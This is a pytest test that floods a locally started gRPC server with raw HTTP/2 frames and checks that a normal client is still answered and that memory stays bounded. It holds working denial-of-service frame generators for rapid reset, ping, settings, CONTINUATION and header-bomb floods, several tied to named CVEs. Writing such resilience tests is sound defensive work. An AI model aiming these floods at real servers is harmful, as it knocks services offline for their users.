"""A client floods the server over raw sockets with frames that cost it little: it may be cut off, others are answered on."""

import itertools
import socket
import struct
import time

import grpc
import pytest
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)
from schema import module
from watching import Footprint, Ticker

messages = module("grpc.testing.test_pb2")
METHOD = "/grpc.testing.BenchmarkService/UnaryCall"
REQUEST = [
    (":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "localhost"), ("te", "trailers"),
    ("content-type", "application/grpc")]

FLOOD_SECONDS = 6
# One thread serves both; what a call waits for the flood's share of it, on a machine that may have more to do.
CALL_SECONDS = 5
MEMORY_LIMIT_KIBIBYTES = 64 * 1024
FRAMES_AT_ONCE = 500


def request(stream, *flags):
    """Headers in literals alone, so that any number of frames may be made ahead and sent on any connection."""
    block = b"".join(b"\x00" + _string(name) + _string(value) for name, value in REQUEST)
    return HeadersFrame(stream, block, flags=list(flags))


def _string(text):
    raw = text.encode()
    assert len(raw) < 127
    return bytes([len(raw)]) + raw


def rapid_reset(streams):
    """CVE-2023-44487."""
    for stream in streams:
        yield request(stream, "END_HEADERS", "END_STREAM")
        yield RstStreamFrame(stream, error_code=8)


def reset_by_the_server(streams):
    """The same from the other side: each request has an error for which the server resets the stream."""
    for stream in streams:
        yield request(stream, "END_HEADERS")
        yield WindowUpdateFrame(stream, window_increment=2**31 - 1)


def ping(streams):
    """Each asks for an answer (CVE-2019-9512)."""
    while True:
        yield PingFrame(0, b"12345678")


def settings(streams):
    """Each asks for an acknowledgement (CVE-2019-9515)."""
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})


def empty_data(streams):
    """Frames that carry nothing and end nothing (CVE-2019-9518)."""
    stream = next(streams)
    yield request(stream, "END_HEADERS")
    while True:
        yield DataFrame(stream, b"")


def continuation(streams):
    """A header block that never ends (CVE-2024-27316)."""
    stream = next(streams)
    yield request(stream)
    while True:
        yield ContinuationFrame(stream, b"\x00\x01a\x01b" * 100)


def empty_continuation(streams):
    stream = next(streams)
    yield request(stream)
    while True:
        yield ContinuationFrame(stream, b"")


def header_bomb(streams):
    """One entry of 4 KB in the table of headers, named a thousand times in a block."""
    encoder = Encoder()
    stream = next(streams)
    block = encoder.encode(REQUEST + [("bomb", "x" * 3900)]) + b"\xbe" * 1000
    yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])
    for stream in streams:
        yield HeadersFrame(stream, encoder.encode(REQUEST) + b"\xbe" * 1000, flags=["END_HEADERS", "END_STREAM"])


def unfinished_requests(streams):
    """Requests that say how long they are and never come to it."""
    for stream in streams:
        yield request(stream, "END_HEADERS")
        yield DataFrame(stream, b"\x00" + struct.pack(">I", 4_000_000) + bytes(1000))


def priority(streams):
    """Streams that depend on one another and are never opened (CVE-2019-9513)."""
    for stream in streams:
        yield PriorityFrame(stream, depends_on=max(0, stream - 2), stream_weight=stream % 256)


def window_update(streams):
    while True:
        yield WindowUpdateFrame(0, window_increment=1)


FLOODS = [
    rapid_reset, reset_by_the_server, ping, settings, empty_data, continuation, empty_continuation, header_bomb,
    unfinished_requests, priority, window_update]


class Flooder:
    """Sends a flood on one connection after the other and reads nothing; `cut_off` counts how often the server had enough."""

    def __init__(self, address, frames):
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self._frames = frames
        self.cut_off = 0
        self.sent = 0

    def __call__(self):
        frames = self._frames(itertools.count(1, 2))
        deadline = time.monotonic() + 1
        with socket.create_connection(self._address, timeout=0.5) as connection:
            try:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
                while time.monotonic() < deadline:
                    part = [frame.serialize() for frame in itertools.islice(frames, FRAMES_AT_ONCE)]
                    connection.sendall(b"".join(part))
                    self.sent += len(part)
            except (TimeoutError, ConnectionError):
                # It reads no more, or has hung up.
                self.cut_off += 1


@pytest.mark.parametrize("frames", FLOODS, ids=lambda frames: frames.__name__)
def test_a_normal_client_is_answered_while_another_floods_the_server(programs, frames):
    server, address = programs.start("interop-server", "--port", 0, "--threads", 1)
    with grpc.insecure_channel(address) as channel:
        call = channel.unary_unary(METHOD, messages.SimpleRequest.SerializeToString, messages.SimpleResponse.FromString)

        def ask():
            assert call(messages.SimpleRequest(response_size=10), timeout=CALL_SECONDS).payload.body == bytes(10)

        ask()
        before, flooder = Footprint(server.pid), Flooder(address, frames)
        flood, deadline, answered, slowest = Ticker(flooder), time.monotonic() + FLOOD_SECONDS, 0, 0.0
        most = before.kibibytes
        while time.monotonic() < deadline:
            began = time.monotonic()
            ask()
            answered, slowest = answered + 1, max(slowest, time.monotonic() - began)
            most = max(most, Footprint(server.pid).kibibytes)
        flood.stop()
        ask()
    print(f"{flooder.sent} frames, cut off {flooder.cut_off} times; {answered} calls, the slowest {slowest:.3f} s")
    assert flooder.sent > FRAMES_AT_ONCE and answered > 20
    assert server.poll() is None
    assert most - before.kibibytes < MEMORY_LIMIT_KIBIBYTES, f"{before.kibibytes} KiB before, {most} KiB at most"
